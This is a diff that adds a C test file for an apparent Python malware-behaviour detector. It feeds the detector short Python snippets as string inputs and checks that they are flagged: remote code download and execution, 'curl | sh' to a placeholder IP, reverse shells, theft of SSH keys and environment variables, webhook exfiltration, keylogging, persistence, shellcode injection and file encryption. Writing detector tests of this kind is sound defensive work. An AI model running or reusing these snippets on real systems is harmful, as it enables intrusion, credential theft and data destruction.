@@ -1,0 +1,250 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * What programs do: inert programs that must show a behaviour, and ordinary
+ * ones that must not.
+ */
+#include "folding.h"
+
+#include "../test.h"
+
+static bool shows(const char *text, enum mpy_behaviour id, uint32_t line)
+{
+	struct folding f;
+	const struct mpy_behaviour_seen *seen;
+	bool result;
+
+	folding_start(&f, text, strlen(text));
+	seen = &mpy_fold_behaviours(f.fold)->seen[id];
+	result = seen->count && (!line || seen->line == line);
+	if (!result)
+		printf("# no %s (line %u) in:\n# %s\n",
+		       mpy_behaviour_name(id)->slug, seen->line, text);
+	folding_end(&f);
+	return result;
+}
+
+/* Nothing of strength 2 or more. */
+static bool is_ordinary(const char *text)
+{
+	const struct mpy_behaviours *b;
+	struct folding f;
+	bool result = true;
+
+	folding_start(&f, text, strlen(text));
+	b = mpy_fold_behaviours(f.fold);
+	for (int i = 0; i < MPY_BEH_COUNT; i++) {
+		if (!b->seen[i].count ||
+		    mpy_behaviour_name((enum mpy_behaviour)i)->strength < 2)
+			continue;
+		printf("# %s, line %u, in:\n# %s\n",
+		       mpy_behaviour_name((enum mpy_behaviour)i)->slug,
+		       b->seen[i].line, text);
+		result = false;
+	}
+	folding_end(&f);
+	return result;
+}
+
+static void executes(void)
+{
+	CHECK(shows("import base64\nexec(base64.b64decode('cGFzcw=='))",
+		    MPY_BEH_DECODE_EXEC, 2));
+	CHECK(shows("import base64\nexec(base64.b64decode(x))",
+		    MPY_BEH_DECODE_EXEC, 2));
+	CHECK(shows("import base64 as b\ne = exec\nd = b.b64decode(x)\n\ne(d)",
+		    MPY_BEH_DECODE_EXEC, 5));
+	CHECK(shows("import zlib\nexec(zlib.decompress(x))",
+		    MPY_BEH_UNPACK_EXEC, 2));
+	CHECK(shows("import marshal\nexec(marshal.loads(x))",
+		    MPY_BEH_MARSHAL_EXEC, 2));
+	CHECK(shows("import requests\nr = requests.get(u)\nexec(r.text)",
+		    MPY_BEH_NETWORK_EXEC, 3));
+	CHECK(shows("from urllib.request import urlopen as o\n"
+		    "def f(u):\n  return o(u).read()\nexec(f('x'))",
+		    MPY_BEH_NETWORK_EXEC, 4));
+	/* what a function does with its argument happens at the call */
+	CHECK(shows("import requests\ndef run(code):\n  exec(code)\n"
+		    "run(requests.get('x').text)", MPY_BEH_NETWORK_EXEC, 4));
+	CHECK(shows("import socket\ns = socket.socket()\nd = s.recv(99)\n"
+		    "exec(d)", MPY_BEH_RECV_EXEC, 4));
+	CHECK(shows("try:\n d = requests.get(u).text\nexcept Exception:\n"
+		    " d = ''\nexec(d)", MPY_BEH_NETWORK_EXEC, 5));
+	CHECK(shows("getattr(__import__('os'), 'sys' + 'tem')('id')",
+		    MPY_BEH_HIDDEN_NAME, 1));
+	CHECK(shows("__import__('o' + 's').getcwd()", MPY_BEH_HIDDEN_IMPORT,
+		    1));
+	CHECK(shows("(lambda f: f('pass'))(exec)", MPY_BEH_PLAIN_EXEC, 0));
+	CHECK(shows("import os\nclass P:\n  def __reduce__(self):\n"
+		    "    return os.system, ('id',)", MPY_BEH_PICKLE_COMMAND,
+		    4));
+}
+
+static void starts(void)
+{
+	CHECK(shows("import urllib.request as u, os\n"
+		    "u.urlretrieve('http://192.0.2.1/a', p)\nos.system(p)",
+		    MPY_BEH_DOWNLOAD_START, 3));
+	CHECK(shows("import requests, subprocess\n"
+		    "with open(p, 'wb') as f:\n"
+		    "  f.write(requests.get(u).content)\n"
+		    "subprocess.Popen([p])", MPY_BEH_DOWNLOAD_START, 4));
+	CHECK(shows("import os\nos.system('curl http://192.0.2.1/a | sh')",
+		    MPY_BEH_SHELL_PIPE, 2));
+	CHECK(shows("import os\nc = 'cu' + 'rl 192.0.2.1 ' + '| ba' + 'sh'\n"
+		    "os.system(c)", MPY_BEH_SHELL_PIPE, 3));
+	CHECK(shows("import subprocess\nsubprocess.run('powershell -w hidden "
+		    "-enc AAAA')", MPY_BEH_POWERSHELL_HIDDEN, 2));
+	CHECK(shows("import subprocess as s\ns.Popen(c, creationflags="
+		    "s.CREATE_NO_WINDOW)", MPY_BEH_HIDDEN_WINDOW, 2));
+	CHECK(shows("import os\nf = os.memfd_create('x')\n"
+		    "os.write(f, b'data')\n"
+		    "os.execv('/proc/self/fd/%d' % f, ['x'])",
+		    MPY_BEH_MEMFD_START, 4));
+	CHECK(shows("import sys, subprocess\nsubprocess.Popen([sys.executable,"
+		    " '-c', 'pass'])", MPY_BEH_PYTHON_C, 2));
+}
+
+static void controls(void)
+{
+	CHECK(shows("import socket, os, pty\ns = socket.socket()\n"
+		    "s.connect(('192.0.2.1', 4444))\n"
+		    "[os.dup2(s.fileno(), i) for i in (0, 1, 2)]\n"
+		    "pty.spawn('/bin/sh')", MPY_BEH_REVERSE_SHELL, 5));
+	CHECK(shows("import socket, os, subprocess\ns = socket.socket()\n"
+		    "s.connect((h, p))\nos.dup2(s.fileno(), 0)\n"
+		    "subprocess.call(['/bin/sh', '-i'])",
+		    MPY_BEH_REVERSE_SHELL, 5));
+	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
+		    "while 1:\n  c = s.recv(1024).decode()\n"
+		    "  p = subprocess.Popen(c, shell=True, stdout=-1)\n"
+		    "  s.send(p.communicate()[0])", MPY_BEH_RECV_RUN, 5));
+	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
+		    "s.send(subprocess.check_output('id'))",
+		    MPY_BEH_OUTPUT_SEND, 3));
+	CHECK(shows("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4 "
+		    "0>&1')", MPY_BEH_SHELL_REVERSE, 2));
+}
+
+static void steals(void)
+{
+	CHECK(shows("import os, requests\nd = open(os.path.expanduser("
+		    "'~/.ssh/id_rsa')).read()\nrequests.post(u, data=d)",
+		    MPY_BEH_SECRET_SEND, 3));
+	CHECK(shows("import os, requests\nrequests.post('http://192.0.2.1', "
+		    "json=dict(os.environ))", MPY_BEH_ENV_SEND, 2));
+	CHECK(shows("import platform, socket, requests\nd = {'h': "
+		    "socket.gethostname()}\nrequests.get(u, params=d)",
+		    MPY_BEH_HOST_SEND, 3));
+	CHECK(shows("import requests\nw = 'https://discord.com/api/webhooks/"
+		    "1/x'\nrequests.post(w, json=d)", MPY_BEH_WEBHOOK_SEND,
+		    3));
+	CHECK(shows("import pyautogui, requests\ni = pyautogui.screenshot()\n"
+		    "requests.post(u, files={'f': i})",
+		    MPY_BEH_SCREENSHOT_SEND, 3));
+	CHECK(shows("from pynput import keyboard\ndef press(key):\n"
+		    "  open('log', 'a').write(str(key))\n"
+		    "keyboard.Listener(on_press=press).start()",
+		    MPY_BEH_KEYLOG_SEND, 3));
+	CHECK(shows("p = base + '\\\\Google\\\\Chrome\\\\User Data'",
+		    MPY_BEH_BROWSER_THEFT, 1));
+}
+
+static void stays_and_harms(void)
+{
+	CHECK(shows("import os\nos.system('(crontab -l; echo x) | crontab -')",
+		    MPY_BEH_PERSIST_CRON, 2));
+	CHECK(shows("open('/root/.bashrc', 'a').write('x')",
+		    MPY_BEH_PERSIST_PROFILE, 1));
+	CHECK(shows("import winreg\nk = winreg.OpenKey(h, r'Software\\"
+		    "Microsoft\\Windows\\CurrentVersion\\Run')",
+		    MPY_BEH_PERSIST_REGISTRY, 2));
+	CHECK(shows("from setuptools import setup\n"
+		    "from setuptools.command.install import install\n"
+		    "import os\nclass I(install):\n  def run(self):\n"
+		    "    os.system('id')\nsetup(cmdclass={'install': I})",
+		    MPY_BEH_INSTALL_HOOK, 6));
+	CHECK(shows("import ctypes\nk = ctypes.windll.kernel32\n"
+		    "p = k.VirtualAlloc(0, n, 0x3000, 0x40)\n"
+		    "k.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0)",
+		    MPY_BEH_SHELLCODE, 4));
+	CHECK(shows("import os\nfrom cryptography.fernet import Fernet\n"
+		    "c = Fernet(k)\nfor r, d, n in os.walk('/home'):\n"
+		    "  for x in n:\n    p = os.path.join(r, x)\n"
+		    "    e = c.encrypt(open(p, 'rb').read())\n"
+		    "    open(p, 'wb').write(e)", MPY_BEH_ENCRYPT_FILES, 8));
+	CHECK(shows("import os\nos.remove(__file__)", MPY_BEH_SELF_DELETE, 2));
+	CHECK(shows("x = 'stratum+tcp://pool.example.invalid:1'",
+		    MPY_BEH_MINER, 1));
+}
+
+static void ordinary(void)
+{
+	CHECK(is_ordinary("import requests, json\nr = requests.get(url)\n"
+			  "print(json.loads(r.text)['name'])"));
+	CHECK(is_ordinary("import subprocess\nout = subprocess.check_output("
+			  "['git', 'describe'])\nprint(out.decode())"));
+	CHECK(is_ordinary("exec(open('version.py').read())"));
+	CHECK(is_ordinary("ns = {}\nexec(compile(template % names, '<t>', "
+			  "'exec'), ns)"));
+	CHECK(is_ordinary("import os\nenv = dict(os.environ, LANG='C')\n"
+			  "import subprocess\nsubprocess.run(cmd, env=env)"));
+	CHECK(is_ordinary("import base64\nopen('a.png', 'wb').write("
+			  "base64.b64decode(png))"));
+	CHECK(is_ordinary("import socket\ns = socket.socket()\n"
+			  "s.bind(('', 0))\nprint(s.getsockname()[1])"));
+	CHECK(is_ordinary("import sys, subprocess\nsubprocess.check_call(["
+			  "sys.executable, '-m', 'pip', 'install', 'x'])"));
+	CHECK(is_ordinary("from setuptools import setup\nsetup(name='x', "
+			  "long_description=open('README').read())"));
+	CHECK(is_ordinary("import os\nimport requests\nrequests.get(u, "
+			  "headers={'a': os.environ['TOKEN']})"));
+	CHECK(is_ordinary("import pickle, zlib\nd = pickle.loads("
+			  "zlib.decompress(f.read()))\nprint(d)"));
+	CHECK(is_ordinary("class A:\n  def send(self, data):\n"
+			  "    self.queue.put(data)\nA().send(1)"));
+	CHECK(is_ordinary("def exec(x):\n  return x\nexec(b64decode(y))"));
+	CHECK(is_ordinary(""));
+}
+
+static void names_are_complete(void)
+{
+	for (int i = 0; i < MPY_BEH_COUNT; i++) {
+		const struct mpy_behaviour_name *a, *b;
+
+		a = mpy_behaviour_name((enum mpy_behaviour)i);
+		CHECK(a->slug && a->sentence && a->strength <= 3);
+		for (int k = 0; k < i; k++) {
+			b = mpy_behaviour_name((enum mpy_behaviour)k);
+			CHECK(strcmp(a->slug, b->slug));
+		}
+	}
+}
+
+/* The same line counts once, in loops and functions too. */
+static void counts_lines(void)
+{
+	const char text[] = "import os\ndef f(x):\n  os.system(x)\n"
+			    "for i in 'abc':\n  f('a'); f('b')\n"
+			    "os.system('c')\n";
+	const struct mpy_behaviour_seen *seen;
+	struct folding f;
+
+	folding_start(&f, text, strlen(text));
+	seen = &mpy_fold_behaviours(f.fold)->seen[MPY_BEH_RUN_COMMAND];
+	CHECK(seen->count == 2);
+	CHECK(seen->line == 3);
+	folding_end(&f);
+}
+
+int main(void)
+{
+	RUN(executes);
+	RUN(starts);
+	RUN(controls);
+	RUN(steals);
+	RUN(stays_and_harms);
+	RUN(ordinary);
+	RUN(names_are_complete);
+	RUN(counts_lines);
+	return DONE();
+}
